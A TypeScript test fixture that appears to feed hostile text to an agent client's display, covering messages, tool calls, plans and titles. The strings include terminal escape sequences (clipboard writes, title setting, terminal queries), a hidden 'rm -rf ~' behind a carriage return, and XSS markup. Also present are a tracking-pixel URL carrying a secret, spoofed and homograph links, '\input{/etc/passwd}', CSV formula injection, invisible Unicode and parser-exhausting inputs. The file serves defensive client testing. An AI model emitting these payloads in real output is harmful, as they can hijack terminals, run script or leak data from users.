import { type Fault, strikes } from "./fault.ts";
import { toolCall, update, words } from "./messages.ts";
import type { Scene } from "./scene.ts";

const ESC = "\u001B";
const ST = `${ESC}\\`;

/** Texts that do something to whoever shows them as they are, by fault. */
const texts: readonly [name: string, title: string, text: (scene: Scene) => string][] = [
  [
    "D-01",
    "Text that moves the cursor and clears the screen",
    () => `${ESC}[2J${ESC}[H${ESC}[?1049h${ESC}[1;5r${ESC}[10A${ESC}[3J`,
  ],
  [
    "D-02",
    "Text that sets titles, links and the clipboard",
    () =>
      `${ESC}]0;hostile\u0007${ESC}]8;;https://example.invalid${ST}safe${ESC}]8;;${ST}${ESC}]52;c;aG9zdGlsZQ==\u0007${ESC}]52;c;?\u0007${ESC}]1337;File=name=eA==:eA==\u0007${ESC}]10;?\u0007`,
  ],
  [
    "D-03",
    "Text with strings of device control",
    () => `${ESC}P0;1|17/ab${ST}${ESC}_Gf=24;AAAA${ST}${ESC}^private${ST}${ESC}Xstring${ST}`,
  ],
  [
    "D-04",
    "Text with control characters of eight bits",
    () => "\u009B2J\u009D0;hostile\u009C\u0090q\u009C\u0085\u008D",
  ],
  ["D-05", "Text whose control sequence never ends", () => `${ESC}]0;never ended`],
  [
    "D-06",
    "Text that asks the terminal questions",
    () => `${ESC}[c${ESC}[6n${ESC}[>q${ESC}P$qm${ST}${ESC}P+q544e${ST}`,
  ],
  ["D-07", "Text that goes back over itself", () => `rm -rf ~\rls      \u0008\u0008\u000B\u007F${ESC}c`],
  [
    "D-08",
    "Text with letters that are not seen, or turn others round",
    () => "a\u202Eb\u2066c\u200B\u200D\uFEFF\u{E0041}\u{E0042}\uFE0F\u{E0100}\uE000d",
  ],
  ["D-09", "Text whose width nobody knows", () => "👩‍👩‍👧‍👦漢字ｱ\u1100\u1161🏳️‍🌈é\u0301﷽"],
  ["D-10", "Titles that reach beyond their line", () => `Title\n\u0007\u001B]9;hostile\u0007\r`],
  [
    "D-20",
    "Markup with programs in it",
    () =>
      `<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>[x](javascript:alert(1))[y](data:text/html,x)`,
  ],
  [
    "D-21",
    "Pictures that tell somebody that they were seen",
    () => "![x](https://example.invalid/pixel?secret=1)<img src='//example.invalid/x'>",
  ],
  [
    "D-22",
    "Links that lead elsewhere",
    () => "[https://example.com](https://example.com@evil.invalid/) https://еxample.com",
  ],
  ["D-23/quotes", "Quotes nested twenty thousand deep", (scene) => `${">".repeat(scene.many(20_000))} x`],
  ["D-23/emphasis", "Emphasis that is never closed", (scene) => "*a **b _c ".repeat(scene.many(10_000))],
  ["D-23/brackets", "Brackets that are never closed", (scene) => "[".repeat(scene.many(50_000))],
  ["D-23/code", "A line of code of a megabyte", (scene) => `\`\`\`js\n${"a=a+".repeat(scene.many(250_000))}1\n\`\`\``],
  [
    "D-24",
    "Diagrams and formulas",
    () => '```mermaid\ngraph TD;A-->B;click A href "javascript:alert(1)"\n```\n$$\\input{/etc/passwd}$$',
  ],
  [
    "D-28",
    "Text that other formats take for their own",
    () => "=cmd|' /C calc'!A0\n]]>\n::set-output name=x::y\n</testsuite>\u0001\uFFFE",
  ],
];

/** Everywhere where a client shows what an agent says. */
function everywhere(scene: Scene, text: string) {
  const entries = [{ content: text, priority: "high", status: "pending" }];
  const plan =
    scene.protocol === 1
      ? { sessionUpdate: "plan", entries }
      : { sessionUpdate: "plan_update", plan: { type: "items", planId: "p", entries } };
  const whole = words(scene, text);
  const halves = [text.slice(0, text.length >> 1), text.slice(text.length >> 1)].map((half) => words(scene, half));
  return [
    whole,
    ...halves,
    { ...words(scene, text, "agent_thought_chunk"), ...(scene.protocol === 2 && { messageId: "colloquy-thought" }) },
    toolCall(scene, "hostile-text", {
      title: text,
      content: [{ type: "content", content: { type: "text", text } }],
      rawInput: { command: text },
      locations: [{ path: `${scene.folder}/${text.slice(0, 100)}` }],
    }),
    plan,
    {
      sessionUpdate: "available_commands_update",
      availableCommands: [{ name: text.slice(0, 100), description: text }],
    },
    { sessionUpdate: "session_info_update", title: text },
  ].map((what) => update(scene, what));
}

/** Texts that are dangerous to show, in every place where text is shown. */
export const hostileText: readonly Fault[] = texts.map(([name, title, text]) =>
  strikes(name, title, (scene) => everywhere(scene, text(scene)), { towards: ["client"], at: "turn" }),
);
